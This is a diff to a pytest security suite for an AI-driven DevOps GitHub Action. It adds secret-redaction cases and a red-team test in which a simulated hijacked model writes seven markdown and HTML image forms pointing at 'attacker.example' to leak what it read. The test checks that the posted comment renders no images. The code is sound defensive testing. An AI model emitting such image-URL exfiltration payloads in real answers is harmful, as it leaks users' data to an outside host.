@@ -19,6 +19,7 @@ The first red team's attacks are in ``test_e2e_security.py``; the helpers come f
 from __future__ import annotations
 
 import json
+import re
 import time
 from pathlib import Path
 from typing import Any
@@ -265,6 +266,7 @@ def test_values_under_common_secret_names_reach_no_exit(action, github, server_s
         'SECRET_KEY_BASE = "9f86d081884c7d659a2feaa0c55ad015"',
         '{"MYSQL_ROOT_PASS": "my-Hunter2"}',
         "--db-pass my-Hunter2x",
+        "mysql --password=my-Hunter2 -h db",
     ],
 )
 def test_secret_names_of_common_tools_are_redacted_in_text(line):
@@ -272,6 +274,20 @@ def test_secret_names_of_common_tools_are_redacted_in_text(line):
 
     out = Redactor()(line)
     assert "Hunter2" not in out and "9f86d0818" not in out, out
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "echo $TOKEN | docker login --username bob --password-stdin ghcr.io",
+        "run with --token NAME to pick the token",
+        "pass --force to replace the file",
+    ],
+)
+def test_flags_that_only_mention_a_secret_stay_as_written(line):
+    from devops_agent.sanitize import Redactor
+
+    assert Redactor()(line) == line
 
 
 @pytest.mark.parametrize(
@@ -844,3 +860,57 @@ def test_an_edit_by_an_unknown_account_counts_as_someone_else_s(
     )
     assert run.code == 3 and "edited by @ghost" in run.summary, run.summary
     assert state_of(server_session, web1) == "running"
+
+
+_MEDIA = re.compile(r"<\s*(img|picture|source|video|audio|iframe|object|embed)\b", re.I)
+
+
+def rendered_images(markdown: str) -> list[str]:
+    """The image URLs a CommonMark renderer (GitHub's base) would fetch in ``markdown``."""
+    from markdown_it import MarkdownIt
+
+    found: list[str] = []
+    todo = list(MarkdownIt("commonmark").parse(markdown))
+    while todo:
+        token = todo.pop()
+        if token.type == "image":
+            found.append(str(token.attrs.get("src", "")))
+        elif token.type in ("html_inline", "html_block") and _MEDIA.search(token.content):
+            found.append(token.content)
+        todo.extend(token.children or [])
+    return found
+
+
+def test_a_hijacked_model_cannot_send_what_it_read_to_another_host(
+    action, github, server_session, estate, model_server
+):
+    """Images in the answer are fetched (through GitHub's image proxy) by everyone who
+    opens the thread: their URLs would carry what the model read to the attacker's host.
+    The model tries every form CommonMark renders: inline, reference-style, an escaped
+    bracket in the alt text, and HTML."""
+    leak = "https://attacker.example/x?d=web-1"
+    forms = [
+        f"![status]({leak})",
+        f"![a\\]b]({leak})",
+        f"![ref][r1]\n\n[r1]: {leak}",
+        f"![collapsed][]\n\n[collapsed]: {leak}",
+        f"![shortcut]\n\n[shortcut]: {leak}",
+        f'<img src="{leak}">',
+        f"<p><img\nsrc='{leak}'></p>",
+    ]
+    model_server.reset([{"say": "Here you go.\n\n" + "\n\n".join(forms)}])
+    pull = github.add_pull(REPO, title="x", user="alice")
+    run = run_comment(
+        action,
+        github,
+        pull["number"],
+        "/devops how is web-1 doing?",
+        openai_api_key="sk-test-redteam00000000000000000000000000",
+        openai_base_url=model_server.url,
+    )
+    assert run.code == 0, run.summary
+    (body,) = [
+        c["body"] for c in github.comments(REPO, pull["number"]) if "Here you go" in c["body"]
+    ]
+    assert rendered_images(body) == [], body
+    assert rendered_images(run.summary) == []
